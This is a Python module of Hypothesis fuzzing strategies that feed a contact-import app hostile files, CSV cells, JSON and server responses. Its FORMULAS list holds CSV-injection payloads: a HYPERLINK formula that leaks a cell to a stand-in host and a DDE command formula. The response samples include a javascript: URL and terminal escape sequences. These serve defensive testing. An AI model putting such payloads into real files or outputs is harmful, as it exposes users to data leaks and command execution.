"""Hypothesis strategies for hostile input: random and binary bytes, text in the wrong encoding,
ragged CSV, spreadsheet formulas, JSON of every shape, answers of any kind, frames of any text.

Each strategy draws what a person could really hand the app (a file picked by mistake, a legend
pasted from the wrong place, a server that answers nonsense), sized so that one example costs
milliseconds; the few inputs that are large on purpose are fixed examples in the tests.
"""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any, TypeVar

import pandas as pd
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from hypothesis_profiles import examples

from .strategies import URL_SPECIALS, field_text

__all__ = [
    "BINARY_HEADERS",
    "FORMULAS",
    "LATIN_TEXT",
    "any_json",
    "csv_rows",
    "deadline",
    "expect_clear",
    "formula_text",
    "fuzz",
    "headers",
    "hostile_text",
    "json_junk_text",
    "response_bodies",
    "statuses",
    "text_frames",
    "to_csv_text",
]

T = TypeVar("T")


def fuzz(max_examples: int) -> settings:
    """Settings for a hostile-input property: `max_examples` (the counts keep the whole hostile
    set under 20 s; the `explore` profile scales them up for a hunt), no per-example deadline
    (hangs are caught by `deadline` around the call instead), slow data generation allowed."""
    return settings(
        max_examples=examples(max_examples),
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# Real first bytes of files that people pick by mistake or rename to .csv.
BINARY_HEADERS: dict[str, bytes] = {
    "PNG": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00",
    "PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
    "ZIP": b"PK\x03\x04\x14\x00\x00\x00\x08\x00",
    "empty ZIP": b"PK\x05\x06" + b"\x00" * 18,
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "ELF": b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00",
    "JPEG": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01",
    "GIF": b"GIF89a\x10\x00\x10\x00\x80\x00\x00",
    "OLE2 (.xls)": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00",
    "SQLite": b"SQLite format 3\x00\x10\x00\x01\x01\x00@  ",
    "7-Zip": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "RAR": b"Rar!\x1a\x07\x01\x00",
}

# What a spreadsheet would run as a formula when it opens a CSV (CSV injection), and plain
# values that merely start the same way.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "=1+2",
    "+1 716 555 1234",
    "+1",
    "-2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
]

# Letters that cp1252 and Latin-1 write the same way, all at or above 0xC0: in those encodings a
# run of them never forms valid UTF-8, so the encoding can be told apart for certain.
LATIN_TEXT = "abcXYZ019 .'-@éèêëàâäçñöüßÉÀÇÑÖÜøåæÿ"


def hostile_text(*, max_size: int = 24) -> st.SearchStrategy[str]:
    """Text as hostile as a cell can be: anything UTF-8 carries, formulas, quotes, delimiters,
    markup and the odd long run."""
    return st.one_of(
        field_text(max_size=max_size),
        st.sampled_from(FORMULAS),
        st.lists(
            st.sampled_from(
                [*URL_SPECIALS, *FORMULAS, '"', '""', ",", ";", "|", "\r\n", "<b>", "ſ", "ı", "x"]
            ),
            max_size=max_size // 3,
        ).map("".join),
        st.tuples(st.sampled_from([" ", ",", '"', "a", "1"]), st.integers(0, 300)).map(
            lambda pair: pair[0] * pair[1]
        ),
    )


def formula_text() -> st.SearchStrategy[str]:
    """A formula with some text after it."""
    return st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), field_text(max_size=8)).map(
        "".join
    )


def headers(*, max_size: int = 8) -> st.SearchStrategy[list[str]]:
    """Column headers: the usual ones, misspelt ones, repeats, blanks and junk."""
    usual = st.sampled_from(
        [
            "First Name",
            "last_name",
            "EMAIL",
            "E-mail Address",
            "Phone",
            "Mobile",
            "Work Phone",
            "fax",
            "Address",
            "City",
            "State",
            "Zip",
            "Country",
            "Tags",
            "user_id",
            "cm_id",
            "custom_field[195481]",
            "custom_field[300100]",
            "Follow Up Date",
            "Reference #",
            "",
            " ",
        ]
    )
    return st.lists(st.one_of(usual, hostile_text(max_size=10)), min_size=1, max_size=max_size)


def csv_rows(
    cells: st.SearchStrategy[str], *, max_rows: int = 6, max_width: int = 6
) -> st.SearchStrategy[list[list[str]]]:
    """Rows of different lengths (ragged), from empty to `max_width` cells."""
    return st.lists(st.lists(cells, max_size=max_width), max_size=max_rows)


def to_csv_text(
    rows: list[list[str]], delimiter: str = ",", *, quoting: int = csv.QUOTE_MINIMAL
) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, quoting=quoting, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


@st.composite
def text_frames(
    draw: st.DrawFn,
    cells: st.SearchStrategy[str] | None = None,
    *,
    names: st.SearchStrategy[list[str]] | None = None,
    min_rows: int = 0,
    max_rows: int = 4,
) -> pd.DataFrame:
    """A frame of text cells under hostile headers (or `names`), as `files.read_table` hands
    them over: names made unique, every cell a `str`."""
    drawn = draw(names if names is not None else headers(max_size=6))
    unique: list[str] = []
    for name in drawn:
        candidate = name
        while candidate in unique:
            candidate += "_"
        unique.append(candidate)
    cell = cells if cells is not None else hostile_text(max_size=16)
    row = st.lists(cell, min_size=len(unique), max_size=len(unique))
    rows = draw(st.lists(row, min_size=min_rows, max_size=max_rows))
    return (
        pd.DataFrame(rows, columns=unique, dtype=object)
        if rows
        else pd.DataFrame({name: pd.Series([], dtype=object) for name in unique})
    )


# --- JSON -------------------------------------------------------------------------------------

_JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text(max_size=12),
    st.sampled_from(["text", "date", "checkbox", "195481", "email", "phone:cell", "tags", "key"]),
)


def any_json(*, max_leaves: int = 12) -> st.SearchStrategy[Any]:
    """Any JSON value: scalars, lists and objects nested a few levels, keys that matter here."""
    keys = st.one_of(
        st.sampled_from(
            ["fields", "id", "name", "type", "cm_id", "columns", "constants", "version"]
        ),
        hostile_text(max_size=8),
    )
    return st.recursive(
        _JSON_SCALARS,
        lambda children: st.one_of(
            st.lists(children, max_size=4), st.dictionaries(keys, children, max_size=4)
        ),
        max_leaves=max_leaves,
    )


def json_junk_text() -> st.SearchStrategy[str]:
    """JSON text that is valid but of no useful shape, or broken, or nested absurdly deep."""
    return st.one_of(
        any_json().map(lambda value: json.dumps(value, ensure_ascii=False)),
        any_json().map(lambda value: json.dumps(value)[:-1]),  # cut short
        st.integers(1, 5000).map(lambda depth: "[" * depth + "]" * depth),
        st.integers(1, 5000).map(lambda depth: '{"a":' * depth + "1" + "}" * depth),
        st.integers(1, 300).map(lambda n: "[" * n * 20),
        st.integers(4000, 6000).map(lambda digits: '{"fields": [{"id": ' + "7" * digits + "}]}"),
        st.sampled_from(["NaN", "Infinity", "-Infinity", '{"fields": NaN}', "[1e999]", "{}", "[]"]),
    )


# --- Answers ----------------------------------------------------------------------------------


def response_bodies() -> st.SearchStrategy[str]:
    """Answers a server could give: the vendor's, near misses, pages, garbage, escapes."""
    piece = st.sampled_from(
        [
            "SUCCESS",
            "success",
            "ſuccess",
            "SUCCESS ",
            "FAILURE",
            "ERROR",
            "errOr",
            "faılure",
            "|",
            "||",
            "https://www.phoneburner.com/ms/lead_redirect?upc=ATFHD3PP",
            "javascript:alert(1)",
            "CM_ID IS INVALID",
            "DUPLICATE EMAIL",
            "HTTP 429",
            "<html><head><title>",
            "</title></head>",
            "<title>",
            "<",
            ">",
            "&amp;",
            "&#27;",
            "\x1b[2J",
            "\x1b]0;pwned\x07",
            "\u202e",
            "\ufeff",
            "\x00",
            " ",
            "\r\n",
        ]
    )
    return st.one_of(
        st.lists(piece, max_size=8).map("".join),
        st.text(max_size=60),
        st.tuples(
            st.sampled_from(["SUCCESS|", "ERROR|", "FAILURE|", ""]), st.text(max_size=40)
        ).map("".join),
    )


def statuses() -> st.SearchStrategy[int]:
    return st.one_of(
        st.sampled_from([200, 201, 204, 299, 300, 301, 400, 404, 429, 500, 502, 503, 504]),
        st.integers(min_value=-1000, max_value=10**6),
    )


# --- Checks -----------------------------------------------------------------------------------


def expect_clear(error_type: type[ValueError], call: Callable[[], T], *names: str) -> T | None:
    """The result of `call`, or None when it raised `error_type` with a message fit for a person
    (one naming each of `names`). Any other exception fails the test, as it would reach the
    user as a traceback."""
    try:
        return call()
    except error_type as error:
        message = str(error)
        assert message.strip(), "an empty message"
        assert "Traceback" not in message
        for name in names:
            assert name in message, f"{name!r} not named in {message!r}"
        return None


@contextmanager
def deadline(seconds: float) -> Iterator[None]:
    """Fail when the block takes longer than `seconds` of wall time (a hang, not a crash)."""
    start = time.perf_counter()
    yield
    took = time.perf_counter() - start
    assert took < seconds, f"took {took:.2f} s, over {seconds} s"
